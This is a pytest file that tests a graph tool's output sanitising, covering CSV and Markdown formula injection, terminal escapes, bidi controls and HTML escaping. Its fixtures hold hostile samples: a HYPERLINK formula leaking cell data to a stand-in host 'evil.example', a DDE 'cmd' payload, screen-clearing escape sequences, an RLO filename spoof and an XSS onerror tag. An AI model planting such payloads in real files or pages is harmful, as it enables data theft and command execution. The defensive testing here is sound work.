"""Safe text in listing output (issue 17, item 4): no spreadsheet formulas in table, CSV or
Markdown cells, no terminal escapes or bidi controls in table and Markdown, HTML escaped in
Markdown; numbers, JSON and the neo4j-admin data export left exact."""

from __future__ import annotations

import csv
import io
import json
import sys
import zipfile

import pytest

from lisgraph.output import display_safe, render_rows, spreadsheet_safe, terminal_safe

pytest.importorskip("pyoxigraph")

from lisgraph.rdf.export import export  # noqa: E402

from .test_rdf_export import ISSUED, toy_graph  # noqa: E402

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
ESC = "Evil\x1b[2J\x1b]0;pwned\x07 Council"
BIDI = "Safe\u202egnp.exe\u202c Name"


@pytest.fixture(scope="module")
def toy_file(tmp_path_factory):
    path = tmp_path_factory.mktemp("toy") / "toy.ttl"
    export(toy_graph(), "ttl", path, issued=ISSUED)
    return path


@pytest.fixture
def toy_cli(cli, toy_file):
    return lambda *args: cli("--no-bundled", "--data", str(toy_file), *args)


def sparql_literals(**values: str) -> str:
    """A query that returns the given values as one row (BIND of SPARQL literals)."""
    binds = " ".join(f"BIND({v} AS ?{k})" for k, v in values.items())
    return f"SELECT {' '.join('?' + k for k in values)} WHERE {{ {binds} }}"


def sparql_string(text: str) -> str:
    return json.dumps(text)  # a JSON string is a valid SPARQL string literal for these


QUERY = sparql_literals(
    formula=sparql_string(FORMULA), plus=sparql_string("+44 20 7946 0000"),
    at=sparql_string("@SUM(A1:A9)"), minus=sparql_string("-1+cmd|' /C calc'!A0"),
    tab=sparql_string("\t=1+1"), cr=sparql_string("\r=1+1"),
    lon="-2.2426", lon_text=sparql_string("-2.2426"), name=sparql_string("Manchester"))


def test_csv_neutralises_formulas_and_keeps_numbers(toy_cli):
    code, out, _ = toy_cli("sparql", QUERY, "-f", "csv")
    assert code == 0
    row = next(csv.DictReader(io.StringIO(out)))
    assert row["formula"] == "'" + FORMULA
    assert row["plus"] == "'+44 20 7946 0000" and row["at"] == "'@SUM(A1:A9)"
    assert row["minus"] == "'-1+cmd|' /C calc'!A0"
    assert row["tab"] == "'\t=1+1" and row["cr"] == "'\r=1+1"
    assert row["lon"] == "-2.2426" and row["lon_text"] == "-2.2426"  # numbers exact
    assert row["name"] == "Manchester"


def test_markdown_and_table_neutralise_formulas(toy_cli):
    for fmt in ("md", "table"):
        code, out, _ = toy_cli("sparql", QUERY, "-f", fmt)
        assert code == 0
        assert "'=HYPERLINK(" in out and "'@SUM(A1:A9)" in out and " -2.2426" in out
        assert "'-2.2426" not in out


def test_json_is_exact(toy_cli):
    code, out, _ = toy_cli("sparql", QUERY, "-f", "json")
    row = json.loads(out)[0]
    assert code == 0 and row["formula"] == FORMULA and row["lon"] == -2.2426
    assert row["tab"] == "\t=1+1"


def test_table_and_markdown_strip_control_and_bidi_characters(toy_cli):
    query = sparql_literals(esc=sparql_string(ESC), bidi=sparql_string(BIDI),
                            c1=sparql_string("A\x9b31mB\x7f"), nl=sparql_string("two\nlines"))
    for fmt in ("table", "md"):
        code, out, _ = toy_cli("sparql", query, "-f", fmt)
        assert code == 0
        assert not any(ch in out for ch in "\x1b\x07\x9b\x7f\u202e\u202c\r")
        assert "Evil[2J]0;pwned Council" in out and "Safegnp.exe Name" in out
        assert "A31mB" in out and "two lines" in out
        assert len(out.splitlines()) == 3  # header, rule, one row: no line break got through


def test_markdown_escapes_html_and_pipes(toy_cli):
    query = sparql_literals(h=sparql_string('<img src=x onerror="alert(1)"> & <b>bold</b> | x'))
    code, out, _ = toy_cli("sparql", query, "-f", "md")
    assert code == 0
    assert '&lt;img src=x onerror="alert(1)"&gt; &amp; &lt;b&gt;bold&lt;/b&gt; \\| x' in out
    assert "<img" not in out and "<b>" not in out


def test_listings_of_the_graph_are_neutralised(cli):
    from lisgraph import cli as cli_module
    from lisgraph.model import Node

    g = toy_graph()
    g.add_node(Node("E06000098", "district", FORMULA, ("ons",), {"lat": 53.0, "lon": -2.5}))
    original = cli_module._State.graph
    cli_module._State.graph = lambda self: g  # type: ignore[method-assign]
    try:
        code, out, _ = cli("places", "--type", "district", "-f", "csv")
        assert code == 0
        names = {r["code"]: r["name"] for r in csv.DictReader(io.StringIO(out))}
        assert names["E06000098"] == "'" + FORMULA and names["E08000003"] == "Manchester"
        code, out, _ = cli("places", "--type", "district", "-f", "json")
        assert {r["code"]: r["name"] for r in json.loads(out)}["E06000098"] == FORMULA
    finally:
        cli_module._State.graph = original  # type: ignore[method-assign]


def test_neo4j_admin_csv_keeps_data_exact(tmp_path):
    from lisgraph.model import Node

    g = toy_graph()
    g.add_node(Node("E06000098", "district", FORMULA, ("ons",), {"lat": 53.0, "lon": -2.5}))
    export(g, "csv", tmp_path / "n.zip")
    text = zipfile.ZipFile(tmp_path / "n.zip").read("nodes_District.csv").decode()
    rows = {r["code:ID"]: r for r in csv.DictReader(io.StringIO(text))}
    assert rows["E06000098"]["name"] == FORMULA
    assert rows["E08000003"]["lon:float"] == "-2.2426"


def test_terminal_gets_no_escapes_but_pipes_get_exact_data(monkeypatch):
    from lisgraph.cli import emit

    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    for stream, expected in ((Terminal(), "Evil[2J]0;pwned Council\tx\n"),
                             (io.StringIO(), ESC + "\tx\n")):
        monkeypatch.setattr(sys, "stdout", stream)
        emit(ESC + "\tx\n")
        assert stream.getvalue() == expected


def test_error_lines_carry_no_escapes(monkeypatch, capsys, toy_file):
    from lisgraph import cli as cli_module

    cli_module.state._graph = None
    monkeypatch.setattr(sys, "argv", ["lisgraph", "--no-bundled", "--data", str(toy_file),
                                      "show", "\x1b[2J\x1b[31mNowhere\u202e"])
    with pytest.raises(SystemExit) as stop:
        cli_module.main()
    err = capsys.readouterr().err
    assert stop.value.code == 1 and err.count("\n") == 1
    assert "[2J[31mNowhere" in err and "\x1b" not in err and "\u202e" not in err


@pytest.mark.parametrize("value, safe", [
    ("=1+1", "'=1+1"), ("+1", "+1"), ("-1.5e3", "-1.5e3"), ("-", "'-"), ("- item", "'- item"),
    ("@me", "'@me"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("a=b", "a=b"), ("", ""),
    ("+44 20", "'+44 20"), ("-1-1", "'-1-1"),
])
def test_spreadsheet_safe(value, safe):
    assert spreadsheet_safe(value) == safe


def test_display_and_terminal_safe():
    assert display_safe("a\tb\nc\x00d\u2066e\u2069\u061c") == "a b cde"
    assert terminal_safe("a\tb\nc\x00d\x1b[0m") == "a\tb\ncd[0m"
    assert display_safe("Ynys Môn — Isle of Anglesey") == "Ynys Môn — Isle of Anglesey"
    assert display_safe("LAD\udcff") == "LAD\\xff"


def test_render_rows_numbers_and_booleans_are_not_touched():
    out = render_rows([{"a": -3, "b": -0.5, "c": True, "d": "-x"}], ["a", "b", "c", "d"], "csv")
    assert out == "a,b,c,d\n-3,-0.5,True,'-x\n"
